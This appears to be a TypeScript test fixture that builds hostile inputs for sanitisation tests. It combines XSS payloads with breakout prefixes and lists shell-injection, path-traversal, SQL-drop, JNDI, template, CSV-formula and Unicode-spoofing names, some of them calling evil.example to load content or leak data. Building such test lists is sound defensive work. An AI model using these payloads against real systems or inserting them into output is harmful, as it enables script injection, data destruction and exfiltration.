/** What somebody writes who wants it to run in another's browser. After the kinds that OWASP and PortSwigger list. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/leak?q=1)',
  '[x]: javascript:alert(1)',
];
/** Places that a text may break out of. */
const breakouts = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '--><!--',
  '\u2028',
  '{{7*7}}',
];

/** 300 texts. */
export const scripts: readonly string[] = breakouts.flatMap((before) => payloads.map((payload) => before + payload));

/** Names that mean something to a shell, a path, a database, a template or a spreadsheet. */
export const names: readonly string[] = [
  '$(touch /tmp/owned)',
  '`touch /tmp/owned`',
  '; rm -rf / #',
  '| cat /etc/passwd',
  '&& id',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/etc/passwd',
  'C:\\con',
  '%2e%2e%2f',
  'a\nb',
  'a\r\nSet-Cookie: x=1',
  "'; drop table platform.users; --",
  '${jndi:ldap://evil.example}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  '=cmd|calc!A1',
  '.',
  '..',
  '-rf',
  'con',
  '\uFEFFa',
];

/** Names that read as others, or as nothing: no thing may bear them. */
export const unreadable: readonly string[] = ['\u202Egnp.exe', 'a\u2066b', '\u200B', '\u00AD\u2060'];
